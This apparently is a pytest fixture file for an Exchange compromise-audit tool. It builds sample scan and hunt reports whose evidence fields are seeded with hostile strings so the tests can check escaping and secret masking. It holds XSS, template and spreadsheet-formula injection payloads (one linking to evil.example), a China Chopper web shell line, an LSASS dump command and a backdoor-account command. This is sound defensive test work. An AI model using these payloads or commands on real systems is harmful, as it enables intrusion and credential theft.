"""Realistic run documents for the renderers, built from the model, with hostile evidence.

The evidence strings are what an attacker controls (request lines, user agents, file contents): they
carry script, HTML, template and spreadsheet-formula payloads, plus session tokens and passwords that
shareable outputs must mask.
"""

from __future__ import annotations

from typing import Any

import pytest

from exaudit.model import (
    SCHEMA,
    Coverage,
    CveStatus,
    ErrorEntry,
    Finding,
    HostVerdict,
    Indicators,
    InputFile,
    Precision,
    ScanResult,
    Severity,
    SourceRef,
    Status,
    TimelineEvent,
    Verdict,
    to_jsonable,
)
from exaudit.store import Store

SCRIPT = "<script>window.__pwned = 1; alert(1)</script>"
IMG = '<img src=x onerror="window.__pwned = 2">'
SVG = '"><svg onload="window.__pwned=3">'
STYLE_BREAK = "</style></pre></title><script>window.__pwned=4</script>"
TEMPLATE = "{{ 7*7 }}{% raw %}"
FORMULAS = ['=HYPERLINK("http://evil.example/","click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]
CANARY = "Oq94rnXI5Uy0CrZyZSP-Wbed1rTr3NgIZ0xfQjb8S5eZv8mRd5WStWIpsDOhvCJOjdv2lRqlD6w."
RPS_CAT = "VgEAVAdXaW5kb3dzQwBBCEtlcmJlcm9zTBtydC10ZXN0aW5n"
CADATA = "cadataSECRETVALUE0123456789"
PASSWORD = "Winter2021!"
SHELL_PATH = r"C:\inetpub\wwwroot\aspnet_client\supp0rt.aspx"
SHELL_SHA = "695d4a81ce526a136351cd8eeba5c452d0ab79438fe467922a0bd61db87cef93"
SECRETS = (CANARY, RPS_CAT, CADATA, PASSWORD)
HOSTILE = (SCRIPT, IMG, SVG, STYLE_BREAK)


def scan_document() -> dict[str, Any]:
    vulnerable = ScanResult(
        target="ex01.corp.example",
        url="https://ex01.corp.example/owa/",
        reachable=True,
        exchange=True,
        product="2016",
        build="15.1.2176.2",
        build_precision=Precision.EXACT,
        build_method="owa-x-owa-version",
        cves=[
            CveStatus("CVE-2021-26855", Status.VULNERABLE, "build below fix", "15.1.2176.9 (Mar21SU, KB5000871)"),
            CveStatus("CVE-2021-34473", Status.VULNERABLE, "build below fix", "15.1.2176.14 (May21SU, KB5003435)"),
        ],
    )
    patched = ScanResult(
        target="ex02.corp.example:443",
        reachable=True,
        exchange=True,
        product="2019",
        build="15.2.1544.14",
        build_precision=Precision.EXACT,
        cves=[CveStatus("CVE-2021-26855", Status.NOT_VULNERABLE, "build at or above fix")],
    )
    down = ScanResult(target="10.0.0.9", reachable=False, error="timeout")
    return {"schema": SCHEMA, "kind": "scan", "results": to_jsonable([vulnerable, patched, down])}


def hunt_document() -> dict[str, Any]:
    ssrf = Finding(
        rule="proxylogon-ssrf",
        title="ProxyLogon SSRF (CVE-2021-26855) " + SCRIPT,
        host="EX01",
        severity=Severity.HIGH,
        confidence="high",
        cves=["CVE-2021-26855"],
        attack=["T1190"],
        first_seen="2021-03-02T23:50:11Z",
        last_seen="2021-03-03T01:10:00Z",
        count=4,
        source=SourceRef(r"C:\Program Files\Microsoft\Exchange Server\V15\Logging\HttpProxy\Ecp\HttpProxy_2021030300-1.LOG", 17),
        evidence=(
            "ServerInfo~a]@EX01.corp.example:444/ecp/DDI/DDIService.svc/GetObject?msExchEcpCanary="
            + CANARY
            + "&schema=OABVirtualDirectory# UA="
            + IMG
            + " Cookie: cadata="
            + CADATA
            + "; X-BEResource=localhost~1942062522 "
            + TEMPLATE
        ),
        indicators=Indicators(
            ips=["203.0.113.7", "2001:db8::66", "<b>not-an-ip</b>"],
            urls=["/ecp/DDI/DDIService.svc/GetObject?msExchEcpCanary=" + CANARY, "http://evil.example/x.js?'quote'"],
            user_agents=["ExchangeServicesClient/0.0.0.0 " + SVG],
        ),
        stage="exploit",
    ).finalize()
    shell = Finding(
        rule="webshell-china-chopper",
        title="China Chopper web shell",
        host="EX01",
        severity=Severity.CRITICAL,
        cves=["CVE-2021-27065"],
        attack=["T1505.003"],
        first_seen="2021-03-03T01:02:03Z",
        last_seen="2021-03-03T01:02:03Z",
        source=SourceRef(SHELL_PATH, 1),
        evidence='<script language="JScript" runat="server">function Page_Load(){eval(Request["code"],"unsafe");}</script>' + STYLE_BREAK,
        indicators=Indicators(files=[SHELL_PATH]),
        stage="persistence",
    ).finalize()
    dump = Finding(
        rule="lsass-dump",
        title="LSASS memory dump",
        host="EX01",
        severity=Severity.CRITICAL,
        attack=["T1003.001"],
        first_seen="2021-03-03T02:00:00Z",
        source=SourceRef(r"C:\Windows\System32\winevt\Logs\Security.evtx", 4711),
        evidence=r"rundll32 C:\windows\system32\comsvcs.dll MiniDump 624 C:\ProgramData\lsass.dmp full && 7z.exe a -p"
        + PASSWORD
        + " out.7z",
        indicators=Indicators(files=[r"C:\Windows\System32\rundll32.exe", r"C:\ProgramData\lsass.dmp"]),
        stage="post",
    ).finalize()
    # what the hunt reports but does not count in a verdict: a routine admin export, days before the attack
    export = Finding(
        rule="mailbox-export-request",
        title="Mailbox export request",
        host="EX01",
        severity=Severity.INFO,
        confidence="low",
        first_seen="2021-02-20T10:00:00Z",
        evidence="New-MailboxExportRequest -Mailbox ceo -FilePath \\\\backup\\pst\\ceo.pst",
        stage="post",
    ).finalize()
    formulas = Finding(
        rule="proxyshell-autodiscover",
        title="ProxyShell autodiscover SSRF attempt",
        host="EX03",
        severity=Severity.MEDIUM,
        cves=["CVE-2021-34473"],
        first_seen="2021-08-23T09:13:18Z",
        count=2,
        source=SourceRef(r"C:\inetpub\logs\LogFiles\W3SVC1\u_ex210823.log", 5),
        evidence=FORMULAS[0],
        indicators=Indicators(
            ips=["198.51.100.23"],
            urls=["/autodiscover/autodiscover.json?@a.a/powershell/?X-Rps-CAT=" + RPS_CAT],
            user_agents=FORMULAS[1:],
        ),
        stage="attempt",
    ).finalize()
    findings = [ssrf, shell, dump, formulas, export]
    hosts = [
        HostVerdict(
            host="EX01",
            verdict=Verdict.COMPROMISED,
            reasons=["web shell " + SCRIPT],
            coverage=[
                Coverage("httpproxy", files=3, records=1200, first="2021-02-27T00:00:00Z", last="2021-03-05T00:00:00Z", days=6.0),
                Coverage("iis", files=40, records=90000, first="2021-01-01T00:00:00Z", last="2021-03-05T00:00:00Z", days=63.0,
                         gaps=[{"from": "2021-02-01T00:00:00Z", "to": "2021-02-03T00:00:00Z"}]),
            ],
        ),
        HostVerdict(host="EX03", verdict=Verdict.ATTEMPTED,
                    coverage=[Coverage("iis", 1, 10, "2021-08-23T00:00:00Z", "2021-08-24T00:00:00Z", 1.0)]),
    ]  # fmt: skip
    timeline = [
        TimelineEvent("2021-03-02T23:50:11Z", "EX01", "proxylogon-ssrf", "POST /ecp/y.js " + SCRIPT, ssrf.source, ssrf.id),
        TimelineEvent("2021-03-03T01:02:03Z", "EX01", "webshell-china-chopper", "supp0rt.aspx written " + IMG, shell.source, shell.id),
        TimelineEvent("2021-03-03T02:00:00.250Z", "EX01", "lsass-dump", f"net user backdoor {PASSWORD} /add", dump.source, dump.id),
    ]
    inputs = [
        InputFile(SHELL_PATH, SHELL_SHA, "webfile", 1, size=2318, host="EX01"),
        InputFile(ssrf.source.path if ssrf.source else "", "ab" * 32, "httpproxy", 1200, host="EX01"),
    ]
    errors = [ErrorEntry(r"C:\inetpub\logs\LogFiles\W3SVC1\u_ex210301.log", "damaged", "truncated line " + SVG)]
    return {
        "schema": SCHEMA,
        "kind": "hunt",
        "hosts": to_jsonable(hosts),
        "findings": to_jsonable(findings),
        "timeline": to_jsonable(timeline),
        "inputs": to_jsonable(inputs),
        "errors": to_jsonable(errors),
    }


def store_documents(store: Store, documents: list[dict[str, Any]]) -> list[str]:
    """Record each document as a finished run, the way the scan and hunt commands do."""
    ids = []
    for doc in documents:
        run = store.begin_run(doc["kind"], ["test"])
        store.finish_run(run, doc)
        ids.append(run.id)
    return ids


@pytest.fixture
def documents() -> list[dict[str, Any]]:
    store = Store()
    store_documents(store, [scan_document(), hunt_document()])
    return [store.load_run(None, "scan"), store.load_run(None, "hunt")]
